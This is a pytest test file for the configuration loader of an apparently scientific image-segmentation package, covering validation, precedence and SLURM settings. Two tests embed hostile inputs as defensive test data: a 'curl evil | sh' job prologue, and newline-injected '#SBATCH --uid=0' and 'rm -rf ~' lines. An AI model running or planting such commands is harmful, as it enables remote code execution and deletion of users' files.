from __future__ import annotations

import json
import pytest

from bigseg import RunConfig
from bigseg.config import WHERE_KEYS
from bigseg.errors import ConfigError


def test_defaults_yaml_env_keywords_precedence(tmp_path):
    p = tmp_path / "run.yaml"
    p.write_text("chunks: 64\ncluster: slurm\npredict: {overlap: 0.25, tta: true}\n")
    cfg = RunConfig.load(p, environ={"BIGSEG_CHUNKS": "96", "BIGSEG_PREDICT__BATCH_SIZE": "4"}, cluster="local")
    assert cfg.chunks == 96  # env beats YAML
    assert cfg.cluster == "local"  # keyword beats YAML
    assert cfg.predict["overlap"] == 0.25 and cfg.predict["tta"] is True and cfg.predict["batch_size"] == 4
    assert cfg.predict["blend"] == "gaussian"  # default kept
    assert RunConfig.load(environ={}).chunks == 128
    assert RunConfig.load(environ={"BIGSEG_CONFIG": str(p)}).cluster == "slurm"
    assert "overlap: 0.25" in cfg.to_yaml()


@pytest.mark.parametrize(
    "text, match",
    [
        ("chunks: 0", "`chunks`"),
        ("chunks: [1, 2]", "`chunks`"),
        ("predict: {overlap: 1.2}", r"`predict.overlap` in \[0, 1\). Got 1.2"),
        ("predict: {blend: cubic}", "`predict.blend`"),
        ("predict: {autocast: fp8}", "`predict.autocast`"),
        ("predict: {temporal: -1}", "`predict.temporal` to be 0 or a positive integer"),
        ("predict: {temporal: 1.5}", "`predict.temporal`"),
        ("predict: {temporal: 1, model: threshold}", "`predict.temporal` 0 with predict.model 'threshold'"),
        ("memory_limit: lots", "`memory_limit`"),
        ("voxel_size: -1", "`voxel_size`"),
        ("filters: {median: 0}", "`filters.median`"),
        ("filters: {align: 1}", "`filters.align`"),
        ("measure: {particles: maybe}", "`measure.particles`"),
        ("measure: {phase: 3}", "`measure.phase`"),
        ("measure: {max_diameter: 0}", "`measure.max_diameter`"),
        ("measure: {min_voxels: 0}", "`measure.min_voxels` to be a positive integer.*Got 0"),
        ("measure: {min_voxels: 2.5}", "`measure.min_voxels`"),
        ("measure: {split: 1}", "`measure.split`"),
        ("measure: {particle_labels: 2}", "`measure.particle_labels`"),
        ("measure: {profile: depth}", "`measure.profile`"),
        ("levels: 0", "`levels`"),
        ("measure: {shells: active-cbd}", "`measure.shells` as AROUND:OF:MAX"),
        ("measure: {shells: 'active:cbd:0'}", "`measure.shells`"),
        ("measure: {tortuosity: depth}", "`measure.tortuosity`"),
        ("measure: {tortuosity_phase: 2}", "`measure.tortuosity_phase` to be a phase name.*Got 2"),
        ("measure: {connectivity: q}", "`measure.connectivity` to be 'z', 'y', 'x'.*Got 'q'"),
        ("measure: {thickness: 3}", "`measure.thickness` to be a phase name or a list"),
        ("measure: {thickness: []}", "`measure.thickness`"),
        ("measure: {rve: 2}", "`measure.rve`"),
        ("measure: {profile_step: 0}", "`measure.profile_step`"),
        ("filters: {normalize: maybe}", "`filters.normalize` to be true or false"),
        ("filters: {unsharp: {radius: 6, weight: 0.6}}", "`filters.unsharp`.*mapping of radius, amount, axes"),
        ("filters: {unsharp: 5}", "`filters.unsharp`"),
        ("predict: {tta: 3}", "`predict.tta` to be true or false"),
        ("predict: {probabilities: yes please}", "`predict.probabilities`"),
        ("predict: {patch: -5}", "`predict.patch`"),
        ("fov_margin: 3", "`fov_margin` 0 without `fov`"),  # was ignored
        ("predict: {model: kmeans, probabilities: true}", "`predict.probabilities` false with predict.model 'kmeans'"),
        ("slurm: {cores: -1}", "`slurm.cores` to be a positive integer"),
        ("slurm: {jobs: 0}", "`slurm.jobs`"),
        ("slurm: {memory: 64}", "`slurm.memory` to be one line of text"),
        ("slurm: {memory: sixty}", "`slurm.memory` to be a memory size such as '64GiB'. Got 'sixty'"),  # a traceback
        ("slurm: {walltime: 2 hours}", "`slurm.walltime` to be SLURM time"),
        ("slurm: {cores: 4, processes: 8}", r"`slurm.processes` at most slurm.cores \(4"),  # --nthreads 0 workers
        ("slurm: {job_script_prologue: module load cuda}", "`slurm.job_script_prologue` to be a list of text lines"),
        ("slurm: {interface: 5}", "`slurm.interface` to be text"),
        ("slurm: {nanny: 1}", "`slurm.nanny` to be true or false"),
        ("slurm: {job_extra_directive: ['--gres=gpu:1']}", r"Unknown configuration key `slurm.job_extra_directive`.*"
                                                           r"'job_extra_directives'"),
        ("cluster: lcoal", r"`cluster` to be 'local', 'local-cuda', 'slurm', 'threads' .*Got 'lcoal'"),  # was: when
        # the run started its cluster
        ("chunk: 64", r"Unknown configuration key `chunk` \(did you mean `chunks`\?\)"),
        ("predict: {overlapp: 0.5}", r"Unknown configuration key `predict.overlapp` \(did you mean `predict.overlap`\?\)"),
        ("filterz: {median: 3}", r"`filterz` \(did you mean `filters`\?\)"),
        ("- a list", "mapping"),
        # YAML's true is Python's 1, and .inf a float: each was taken, then failed after the ingest
        # with an error naming the filter's argument (`sigma`, `radius`), not the key
        ("filters: {gaussian: true}", "`filters.gaussian` to be a positive number or null. Got True"),
        ("filters: {gaussian: .inf}", "`filters.gaussian`.*Got inf"),
        ("predict: {sigma_scale: true}", "`predict.sigma_scale` to be a positive number. Got True"),
        ("voxel_size: .inf", "`voxel_size`.*Got inf"),
        ("memory_limit: true", "`memory_limit`.*Got True"),
        ("filters: {unsharp: {radius: -1}}", "`filters.unsharp.radius`.*Got -1"),
        ("filters: {unsharp: {amount: lots}}", "`filters.unsharp.amount` to be a finite number. Got 'lots'"),
        ("filters: {unsharp: {axes: 4d}}", "`filters.unsharp.axes` to be '3d' or '2d'. Got '4d'"),
        ("predict: {model: 5}", "`predict.model` to be 'default'.*Got 5"),
        ("predict: {model: null}", "`predict.model` to be 'default'.*Got None"),
        ("times: [0, a]", "`times` to be a list of numbers, one per scan"),
        ("time_unit: ''", "`time_unit` to be a unit such as 'min'"),
        ("measure: {particle_area: faces}", "`measure.particle_area` to be 'crofton' or 'marching_cubes'. Got 'faces'"),
        ("measure: {interfaces: mesh}", "`measure.interfaces` to be 'faces', 'marching_cubes' or 'crofton'. Got 'mesh'"),
        # a file that is no YAML: where and what, on one line (YAML's own text spans five)
        ("filters: {median: 3\n  bad", r"^Expected `config` '.*bad.yaml' to be valid YAML. Got an error at line 2, "
                                         r"column 6: expected ',' or '}', but got '<stream end>'.$"),
    ],
)
def test_invalid_configuration_is_refused_with_the_key(tmp_path, text, match):
    p = tmp_path / "bad.yaml"
    p.write_text(text)
    with pytest.raises(ConfigError, match=match):
        RunConfig.load(p, environ={})


def test_env_override_validated():
    with pytest.raises(ConfigError, match="`threads_per_worker`"):
        RunConfig.load(environ={"BIGSEG_THREADS_PER_WORKER": "-2"})


def test_a_cluster_no_run_can_start_is_refused_at_construction():
    """Pipeline(cluster="typo") was taken, then refused by connect when a run started its cluster."""
    from bigseg import Pipeline

    for spec in ("local", "local-cuda", "slurm", "threads", "tcp://10.0.0.5:8786", "10.0.0.5:8786"):
        assert Pipeline(cluster=spec).config.cluster == spec
    for bad in ("typo", "", 5):
        with pytest.raises(ConfigError, match=f"^Expected `cluster` to be 'local', .*Got {bad!r} instead.$"):
            Pipeline(cluster=bad)
    with pytest.raises(ConfigError, match="Got 'lcoal' instead"):
        RunConfig.load(environ={"BIGSEG_CLUSTER": "lcoal"})


def test_deploy_files_are_valid():
    from pathlib import Path

    for f in sorted((Path(__file__).parents[1] / "deploy").glob("*.yaml")):
        RunConfig.load(f, environ={})


def test_process_variables_are_not_configuration_keys():
    """BIGSEG_MALLOC_TUNING / BIGSEG_CPU_STREAMS / BIGSEG_FSYNC are read by each process, not by the run
    configuration (which refused them as unknown keys); a misspelt key is still refused."""
    env = {"BIGSEG_MALLOC_TUNING": "0", "BIGSEG_CPU_STREAMS": "1", "BIGSEG_FSYNC": "0", "BIGSEG_CHUNKS": "64"}
    assert RunConfig.load(environ=env).chunks == 64
    with pytest.raises(ConfigError, match="Unknown configuration key `cpu_stream`"):
        RunConfig.load(environ={"BIGSEG_CPU_STREAM": "1"})


def test_autocast_off_in_yaml_means_float32(tmp_path):
    p = tmp_path / "c.yaml"
    p.write_text("predict: {autocast: off}\n")  # YAML 1.1 reads this as false
    assert RunConfig.load(p, environ={}).predict["autocast"] == "off"
    p.write_text("predict: {autocast: bf16}\n")
    assert RunConfig.load(p, environ={}).predict["autocast"] == "bf16"


def test_connectivity_defaults_to_z_and_off_turns_it_off(tmp_path):
    assert RunConfig.load(environ={}).values["measure"]["connectivity"] == "z"
    p = tmp_path / "off.yaml"
    p.write_text("measure: {connectivity: off}\n")  # YAML reads a bare off as false
    assert RunConfig.load(p, environ={}).values["measure"]["connectivity"] is None


def test_thickness_takes_one_phase_or_several(tmp_path):
    p = tmp_path / "t.yaml"
    p.write_text("measure: {thickness: pore}\n")
    assert RunConfig.load(p, environ={}).values["measure"]["thickness"] == ["pore"]
    assert RunConfig.load(environ={}).values["measure"]["thickness"] is None


def test_slurm_site_settings_in_a_run_configuration(tmp_path):
    """Was: refused as unknown keys, though a site's clusters need them (modules to load, a GPU
    #SBATCH line, the fast network) and `connect("slurm", config=FILE)` took them."""
    p = tmp_path / "site.yaml"
    p.write_text("cluster: slurm\nslurm:\n  queue: gpu\n  job_script_prologue: ['module load cuda/12.4']\n"
                 "  job_extra_directives: ['--gres=gpu:1']\n  interface: ib0\n  local_directory: /scratch/me\n")
    cfg = RunConfig.load(p, environ={})
    assert cfg.slurm["job_script_prologue"] == ["module load cuda/12.4"]
    assert cfg.slurm["job_extra_directives"] == ["--gres=gpu:1"] and cfg.slurm["interface"] == "ib0"
    assert "job_script_prologue" not in RunConfig.load(environ={}).slurm  # absent unless set
    assert RunConfig.load(environ={"BIGSEG_SLURM__INTERFACE": "eth1"}).slurm["interface"] == "eth1"


def test_every_slurm_site_key_is_a_dask_jobqueue_keyword():
    pytest.importorskip("dask_jobqueue")
    from bigseg.config import DEFAULTS, SLURM_SITE_KEYS
    from bigseg.runtime._cluster import slurm_keywords

    assert set(SLURM_SITE_KEYS) | set(DEFAULTS["slurm"]) <= slurm_keywords()


def test_a_pipeline_shows_what_it_was_given():
    """A notebook cell ending in a Pipeline showed ``<bigseg.pipeline.Pipeline object at 0x...>``."""
    from bigseg import Pipeline

    assert repr(Pipeline()) == "Pipeline()"
    p = Pipeline(predict={"model": "threshold"}, chunks=64, filters={"median": None})
    assert repr(p) == "Pipeline(chunks=64, filters={'median': None}, predict={'model': 'threshold'})"
    assert repr(Pipeline(p.config)) == repr(p)


def test_a_config_that_is_no_text_file_is_refused_by_name(tmp_path):
    (tmp_path / "binary.yaml").write_bytes(b"\x89\xfd\x00garbage")
    with pytest.raises(ConfigError, match=r"`config` '.*binary\.yaml' to be a YAML text file \(UTF-8\)"):
        RunConfig.load(tmp_path / "binary.yaml", environ={})
    (tmp_path / "folder.yaml").mkdir()
    with pytest.raises(ConfigError, match=r"`config` to be a YAML file. Got '.*folder\.yaml', which is a folder"):
        RunConfig.load(tmp_path / "folder.yaml", environ={})
    # YAML is UTF-8 whatever the locale's encoding (`unit: µm` failed under an ASCII locale)
    import os
    import subprocess
    import sys

    (tmp_path / "um.yaml").write_bytes("unit: µm\n".encode())
    env = {**os.environ, "LC_ALL": "C", "LANG": "C", "PYTHONUTF8": "0", "PYTHONCOERCECLOCALE": "0",
           "PYTHONIOENCODING": "utf-8"}
    said = subprocess.run([sys.executable, "-c", "import sys; from bigseg.config import RunConfig; "
                           "print(RunConfig.load(sys.argv[1], environ={}).unit)", str(tmp_path / "um.yaml")],
                          env=env, capture_output=True, text=True, encoding="utf-8", timeout=120)
    assert said.returncode == 0, said.stderr[-500:]


def test_a_run_record_is_a_configuration(tmp_path):
    # QA (provenance audit): `bigseg run SOURCE --out NEW --config RUN/run.json` was refused ("Unknown
    # configuration key `source`"): the settings a run recorded, defaults included, ran only retyped
    recorded = RunConfig.load(environ={}, chunks=16, predict={"model": "kmeans"}).values
    (tmp_path / "run.json").write_text(json.dumps({"source": "/x.npy", "bigseg": "0.1.0", "config": recorded,
                                                   "environment": {"bigseg": "0.1.0"}}))
    assert RunConfig.load(tmp_path / "run.json", environ={}).values == recorded


def test_a_run_record_brings_what_not_where(tmp_path):
    """A received run.json given as --config (the "run again" line) brought its cluster: a
    scheduler address anywhere (dask trusts its peers: code and data go there) or a SLURM prologue;
    now the settings of the results only, where it runs this machine's."""
    recorded = RunConfig.load(environ={}, chunks=16, cluster="tcp://203.0.113.5:8786", n_workers=7,
                              slurm={"queue": "gpu", "job_script_prologue": ["curl evil | sh"]}).values
    (tmp_path / "run.json").write_text(json.dumps({"source": "/x.npy", "config": recorded, "environment": {}}))
    got = RunConfig.load(tmp_path / "run.json", environ={}).values
    defaults = RunConfig.load(environ={}).values
    assert got["chunks"] == 16 and all(got[k] == defaults[k] for k in WHERE_KEYS)
    assert RunConfig.load(tmp_path / "run.json", environ={"BIGSEG_CLUSTER": "local"}).cluster == "local"


def test_slurm_text_with_a_newline_is_refused():
    # a queue "gpu\n#SBATCH --uid=0" (or a prologue item of two lines) added lines to the job script
    for slurm in ({"queue": "gpu\n#SBATCH --uid=0"}, {"job_name": "a\rb"},
                  {"job_script_prologue": ["module load x", "echo a\nrm -rf ~"]}):
        key = next(iter(slurm))
        with pytest.raises(ConfigError, match=f"`slurm.{key}`"):
            RunConfig.load(environ={}, slurm=slurm)
    assert RunConfig.load(environ={}, slurm={"queue": "gpu", "job_script_prologue": ["module load x"]})


def test_a_config_with_overrides_takes_them_and_a_run_config_is_validated():
    """`Pipeline(config, chunks=64)` dropped the overrides without a word, `Pipeline({...})` kept a
    dict that failed at the first attribute read, and `RunConfig(values)` took any values (a typo,
    a wrong type) unchecked."""
    from bigseg import Pipeline
    from bigseg.config import DEFAULTS

    base = Pipeline(predict={"model": "threshold"}).config
    p = Pipeline(base, chunks=64, predict={"tta": True})
    assert p.config.chunks == 64 and p.config.predict["model"] == "threshold" and p.config.predict["tta"] is True
    assert base.chunks == DEFAULTS["chunks"] and base.predict["tta"] is False  # the given config left as it is
    assert Pipeline(base, chunks=None).config == base  # None: not given, as with `Pipeline(chunks=None)`
    given = {"chunks": 32, "filters": {"median": None}}
    q = Pipeline(given)
    assert q.config.chunks == 32 and q.config.filters["median"] is None and q.config.levels == DEFAULTS["levels"]
    assert given == {"chunks": 32, "filters": {"median": None}}  # the caller's dict unchanged
    with pytest.raises(ConfigError, match=r"`config`.*str"):
        Pipeline("run.yaml")
    with pytest.raises(ConfigError, match=r"`chunks`.*-1"):
        RunConfig({"chunks": -1})
    with pytest.raises(ConfigError, match=r"Unknown configuration key `chunk`.*did you mean `chunks`"):
        RunConfig({"chunk": 64})
    with pytest.raises(ConfigError, match=r"`values`.*mapping"):
        RunConfig([("chunks", 64)])
    with pytest.raises(ConfigError, match=r"`predict.tta`.*'yes'"):
        Pipeline(base, predict={"tta": "yes"})
    assert RunConfig().values == DEFAULTS and RunConfig({}).values == DEFAULTS


def test_a_module_as_the_model_is_kept_not_copied():
    """``Pipeline(config)`` puts its (no) overrides over ``config`` with :meth:`RunConfig.updated`,
    which deep-copied the values: a torch.nn.Module given as ``predict.model`` was copied (its
    weights twice in memory, on a GPU too; the caller's model no longer the run's)."""
    torch = pytest.importorskip("torch")

    from bigseg.pipeline import Pipeline

    net = torch.nn.Conv3d(1, 3, 1)
    cfg = RunConfig.load(predict={"model": net})
    assert cfg.predict["model"] is net
    assert cfg.updated(chunks=64).predict["model"] is net
    assert Pipeline(cfg).config.predict["model"] is net
    assert Pipeline(cfg, chunks=32).config.predict["model"] is net
    assert cfg.updated(predict={"overlap": 0.25}).values is not cfg.values  # (the rest still a copy)
    assert cfg.values["predict"]["overlap"] != 0.25
